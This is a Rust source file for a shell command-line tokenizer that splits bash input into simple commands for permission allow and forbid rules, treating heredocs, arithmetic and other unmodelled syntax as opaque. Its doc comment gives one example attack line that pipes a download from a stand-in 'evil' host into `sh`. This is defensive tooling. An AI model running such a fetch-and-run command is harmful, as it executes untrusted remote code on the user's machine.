//! Splitting a shell command line into the simple commands it would run, so
//! a rule about `git status` cannot be stretched over
//! `git status && curl evil | sh`.
//!
//! This is not a shell parser and does not need to be: it models the part
//! of bash's syntax an allow rule can rely on (words; quoting with `'…'`,
//! `"…"`, `\`, `$'…'` and `$"…"`; comments; the operators that start a
//! command) and finds every other place a command can start (`$( )`,
//! `<( )`, backticks). Any construct it does not model exactly (heredocs,
//! arithmetic, `${…}` beyond the simplest forms, compound-command keywords,
//! unterminated quotes, control characters, …) marks the whole line
//! `opaque`, and an opaque part never matches an allow rule: the tokenizer
//! fails closed.

/// Stands in a word for a substitution's output, which is unknown.
const SUBSTITUTED: &str = "$(…)";

/// Substitutions nested deeper than this are not followed (a stack guard);
/// the line is then opaque.
const MAX_DEPTH: usize = 32;

/// Reserved words that open or close compound commands. In command position
/// they are dropped (so the command after `if` or `{` is seen as one) and
/// make the line opaque, since the structure around them is not modelled.
const RESERVED: [&str; 18] = [
    "!", "{", "}", "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "case",
    "esac", "for", "select", "function", "coproc",
];

/// One simple command: its words (quotes removed), and what about it keeps
/// it from being taken at face value.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct SimpleCommand {
    pub words: Vec<String>,
    /// Parallel to `words`: whether bash may turn the word into something
    /// other than its text (a parameter, a substitution, a glob, a brace
    /// expansion). Forbid and prompt rules treat such a word as a wildcard.
    pub expands: Vec<bool>,
    pub redirects: bool,
    /// A word was built from a substitution whose output is unknown.
    pub substitutes: bool,
    /// The line holds syntax this tokenizer does not model exactly, so its
    /// words may not be what bash runs; never matches an allow rule.
    pub opaque: bool,
}

/// Splits `line` into every simple command it contains, substitutions
/// included (they are listed after the commands of the line itself).
pub fn split_commands(line: &str) -> Vec<SimpleCommand> {
    let mut parser = Parser::new(line, 0);
    let mut out = Vec::new();
    parser.list(&mut out, End::Eof);
    out.append(&mut parser.nested);
    out.retain(|c| !c.words.is_empty() || c.redirects);
    if parser.opaque {
        for c in &mut out {
            c.opaque = true;
        }
    }
    out
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum End {
    Eof,
    /// The `)` closing a `$(` or `<(`.
    Paren,
}

/// A word being read.
#[derive(Default)]
struct Word {
    text: String,
    expands: bool,
    /// Some of it was quoted or escaped: it cannot be a reserved word or a
    /// file-descriptor number.
    quoted: bool,
    /// Anything was read at all (`''` is a word, a lone continuation not).
    started: bool,
}

struct Parser {
    chars: Vec<char>,
    pos: usize,
    depth: usize,
    opaque: bool,
    /// Commands found inside substitutions.
    nested: Vec<SimpleCommand>,
}

impl Parser {
    fn new(line: &str, depth: usize) -> Self {
        // A NUL or other control character may be read differently by bash
        // and by whoever reviews the line; tabs and newlines are modelled.
        let opaque = line
            .chars()
            .any(|c| c.is_control() && c != '\t' && c != '\n');
        Self {
            chars: line.chars().collect(),
            pos: 0,
            depth,
            opaque,
            nested: Vec::new(),
        }
    }

    fn peek(&self, ahead: usize) -> Option<char> {
        self.chars.get(self.pos + ahead).copied()
    }

    /// Reads commands until the end of input or, for `End::Paren`, the
    /// unmatched `)` that closes a substitution.
    fn list(&mut self, out: &mut Vec<SimpleCommand>, end: End) {
        let mut current = SimpleCommand::default();
        let mut subshells = 0usize;
        loop {
            self.skip_blanks();
            let Some(c) = self.peek(0) else {
                if end == End::Paren {
                    self.opaque = true; // unterminated substitution
                }
                break;
            };
            match c {
                '\n' => {
                    finish(&mut current, out);
                    self.pos += 1;
                }
                ';' => {
                    if matches!(self.peek(1), Some(';' | '&')) {
                        self.opaque = true; // `;;`, `;&`: inside `case`
                    }
                    finish(&mut current, out);
                    self.pos += 1;
                }
                '&' if self.peek(1) == Some('>') => self.redirect(&mut current),
                '&' | '|' => {
                    finish(&mut current, out);
                    // `&&`, `||` and `|&` are one operator.
                    let doubled =
                        self.peek(1) == Some(c) || (c == '|' && self.peek(1) == Some('&'));
                    self.pos += if doubled { 2 } else { 1 };
                }
                '(' => {
                    // A subshell may only start a command; after a word it
                    // is a function definition or an array, and `((` is
                    // arithmetic.
                    if !current.words.is_empty() || current.redirects || self.peek(1) == Some('(') {
                        self.opaque = true;
                    }
                    finish(&mut current, out);
                    self.pos += 1;
                    subshells += 1;
                }
                ')' => {
                    finish(&mut current, out);
                    self.pos += 1;
                    if subshells > 0 {
                        subshells -= 1;
                    } else if end == End::Paren {
                        return;
                    } else {
                        self.opaque = true; // unbalanced
                    }
                }
                '<' | '>' if self.peek(1) != Some('(') => self.redirect(&mut current),
                '#' => {
                    while self.peek(0).is_some_and(|c| c != '\n') {
                        self.pos += 1;
                    }
                }
                _ => {
                    let start = self.pos;
                    let word = self.word(&mut current);
                    if self.pos == start {
                        // Cannot happen by construction; never loop on it.
                        self.opaque = true;
                        self.pos += 1;
                        continue;
                    }
                    // `2>` and `{fd}>` name the redirection's descriptor.
                    let fd_of_redirect = matches!(self.peek(0), Some('<' | '>'))
                        && self.peek(1) != Some('(')
                        && is_fd(&word);
                    if word.started && !fd_of_redirect {
                        self.push_word(&mut current, out, word);
                    }
                }
            }
        }
        finish(&mut current, out);
    }

    fn push_word(&mut self, current: &mut SimpleCommand, out: &mut Vec<SimpleCommand>, w: Word) {
        if !w.quoted && current.words.is_empty() {
            if RESERVED.contains(&w.text.as_str()) || w.text == "[[" {
                self.opaque = true;
                return;
            }
            if w.text == "time" {
                // Kept: a rule sees through it like through a wrapper.
                self.opaque = true;
            }
        }
        if !w.quoted && matches!(w.text.as_str(), "{" | "}") {
            // A group after `f()` or `function f`: its body is commands.
            self.opaque = true;
            finish(current, out);
            return;
        }
        current.words.push(w.text);
        current.expands.push(w.expands);
    }

    /// One word, up to an unquoted blank or operator.
    fn word(&mut self, current: &mut SimpleCommand) -> Word {
        let mut w = Word::default();
        while let Some(c) = self.peek(0) {
            match c {
                ' ' | '\t' | '\n' | ';' | '&' | '|' | '(' | ')' => break,
                '<' | '>' if self.peek(1) != Some('(') => break,
                '<' | '>' => {
                    self.pos += 2;
                    self.substitution(&mut w, current);
                }
                '\\' => match self.peek(1) {
                    Some('\n') => {
                        // A continuation inside a word: rare, and it can
                        // glue `$` to what follows; not modelled.
                        self.opaque = true;
                        self.pos += 2;
                    }
                    Some(next) => {
                        w.text.push(next);
                        w.quoted = true;
                        self.pos += 2;
                    }
                    None => {
                        self.opaque = true;
                        w.text.push('\\');
                        self.pos += 1;
                    }
                },
                '\'' => {
                    self.pos += 1;
                    w.quoted = true;
                    self.single_quoted(&mut w.text);
                }
                '"' => {
                    self.pos += 1;
                    w.quoted = true;
                    self.double_quoted(&mut w, current);
                }
                '`' => {
                    self.pos += 1;
                    self.backticks(&mut w, current, false);
                }
                '$' => self.dollar(&mut w, current, false),
                // Globs, braces, and tildes (also after `=` and `:`).
                '*' | '?' | '[' | '{' | '~' => {
                    w.expands = true;
                    w.text.push(c);
                    self.pos += 1;
                }
                '!' => {
                    // Negation, history, extglob: none is modelled.
                    self.opaque = true;
                    w.text.push(c);
                    self.pos += 1;
                }
                _ => {
                    w.text.push(c);
                    self.pos += 1;
                }
            }
            w.started = true;
        }
        w
    }

    /// At a `$`, in or out of double quotes.
    fn dollar(&mut self, w: &mut Word, current: &mut SimpleCommand, in_double: bool) {
        match self.peek(1) {
            Some('(') => {
                if self.peek(2) == Some('(') {
                    self.opaque = true; // arithmetic; read as a subshell
                }
                self.pos += 2;
                self.substitution(w, current);
            }
            Some('{') => self.parameter(w),
            Some('\'') if !in_double => {
                self.pos += 2;
                w.quoted = true;
                self.ansi_c_quoted(w);
            }
            // `$"…"` is `"…"` translated; without a message catalogue the
            // text is unchanged. The `"` is read next.
            Some('"') if !in_double => self.pos += 1,
            Some(c) if c.is_ascii_alphanumeric() || c == '_' || "@*#?-$!".contains(c) => {
                w.expands = true;
                w.text.push('$');
                self.pos += 1;
                if c.is_ascii_alphabetic() || c == '_' {
                    while let Some(c) = self
                        .peek(0)
                        .filter(|c| c.is_ascii_alphanumeric() || *c == '_')
                    {
                        w.text.push(c);
                        self.pos += 1;
                    }
                } else {
                    w.text.push(c);
                    self.pos += 1;
                }
            }
            Some('[') => {
                self.opaque = true; // `$[…]`, old arithmetic
                w.expands = true;
                w.text.push('$');
                self.pos += 1;
            }
            _ => {
                w.text.push('$');
                self.pos += 1;
            }
        }
    }

    /// `${…}`: only a name with plain operators and operands is modelled;
    /// quotes, nested braces or expansions inside make the line opaque.
    fn parameter(&mut self, w: &mut Word) {
        w.expands = true;
        let body_start = self.pos + 2;
        let mut end = body_start;
        while let Some(&c) = self.chars.get(end) {
            if c == '}' || !(c.is_ascii_alphanumeric() || "_:-=+?#%/.,^*".contains(c)) {
                break;
            }
            end += 1;
        }
        if end > body_start && self.chars.get(end) == Some(&'}') {
            w.text.extend(&self.chars[self.pos..=end]);
            self.pos = end + 1;
        } else {
            // Read the rest as ordinary text so a substitution inside is
            // still found for forbid rules.
            self.opaque = true;
            w.text.push('$');
            self.pos += 1;
        }
    }

    /// After `$(`, `<(` or `>(`: the commands up to the matching `)`.
    fn substitution(&mut self, w: &mut Word, current: &mut SimpleCommand) {
        w.expands = true;
        w.text.push_str(SUBSTITUTED);
        current.substitutes = true;
        if self.depth >= MAX_DEPTH {
            self.opaque = true;
            return;
        }
        self.depth += 1;
        let mut inner = Vec::new();
        self.list(&mut inner, End::Paren);
        self.depth -= 1;
        self.nested.append(&mut inner);
    }

    /// At `<`, `>` or `&>`: the operator and its target word, which is not
    /// one of the command's words (but may hold a substitution).
    fn redirect(&mut self, current: &mut SimpleCommand) {
        current.redirects = true;
        match (self.peek(0), self.peek(1)) {
            (Some('&'), _) => {
                self.pos += 2;
                if self.peek(0) == Some('>') {
                    self.pos += 1;
                }
            }
            (Some('<'), Some('<')) => {
                // A heredoc's body is the following lines, read as data, and
                // a here-string is a word of its own: neither is modelled.
                self.opaque = true;
                self.pos += 2;
                while matches!(self.peek(0), Some('<' | '-')) {
                    self.pos += 1;
                }
            }
            (Some('<'), Some('>' | '&')) | (Some('>'), Some('>' | '|' | '&')) => self.pos += 2,
            _ => self.pos += 1,
        }
        self.skip_blanks();
        if self.peek(0) == Some('#') {
            self.opaque = true; // a comment where the target should be
            return;
        }
        let target = self.word(current);
        if !target.started {
            self.opaque = true;
        }
    }

    /// Blanks and line continuations between words.
    fn skip_blanks(&mut self) {
        loop {
            match (self.peek(0), self.peek(1)) {
                (Some(' ' | '\t'), _) => self.pos += 1,
                (Some('\\'), Some('\n')) => self.pos += 2,
                _ => return,
            }
        }
    }
}

fn finish(current: &mut SimpleCommand, out: &mut Vec<SimpleCommand>) {
    let done = std::mem::take(current);
    if !done.words.is_empty() || done.redirects {
        out.push(done);
    }
}

/// `2` in `2>` or `{name}` in `{name}>`.
fn is_fd(w: &Word) -> bool {
    if w.quoted || w.text.is_empty() {
        return false;
    }
    let named = w
        .text
        .strip_prefix('{')
        .and_then(|t| t.strip_suffix('}'))
        .is_some_and(|name| {
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        });
    named || w.text.chars().all(|c| c.is_ascii_digit())
}

// The quoting readers and the tests live beside the rules that rely on
// them, to keep this file short.
mod quoting;

#[cfg(test)]
mod tests;
